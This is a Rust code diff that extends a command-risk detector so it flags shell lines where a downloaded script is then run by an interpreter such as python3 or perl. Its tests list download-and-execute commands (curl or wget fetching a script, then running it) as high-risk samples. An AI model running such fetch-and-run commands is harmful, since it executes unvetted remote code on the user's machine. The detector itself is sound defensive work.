@@ -335,6 +335,12 @@ fn download_then_run(all: &[Invocation], out: &mut Findings) {
     for inv in all {
         let runs = match inv.program() {
             Some(p) if is_shell(p) => shell_call(inv.args()).file.is_some_and(named),
+            // `python3 x.py`: an interpreter running the downloaded script.
+            Some(p) if interp_call(p, &[]).is_some() => inv
+                .args()
+                .iter()
+                .find(|a| !a.text.starts_with('-'))
+                .is_some_and(named),
             Some("source" | ".") => inv.args().first().is_some_and(named),
             Some(_) => inv
                 .argv
@@ -482,11 +488,17 @@ mod tests {
             "wget https://x/setup.sh; chmod +x setup.sh; ./setup.sh",
             "curl -O https://x/run.sh && bash ./run.sh",
             "wget -O /tmp/i.sh https://x && . /tmp/i.sh",
+            "curl -o x.py https://x/x.py && python3 x.py",
+            "wget https://x/tool.pl && perl -w tool.pl",
         ] {
             assert_eq!(risk(source), Risk::High, "{source}");
         }
         assert_eq!(
             risk("wget -qO- https://x/a.sh > a.sh; cat a.sh"),
+            Risk::Safe
+        );
+        assert_eq!(
+            risk("curl -o data.json https://x/data.json && python3 parse.py data.json"),
             Risk::Safe
         );
     }
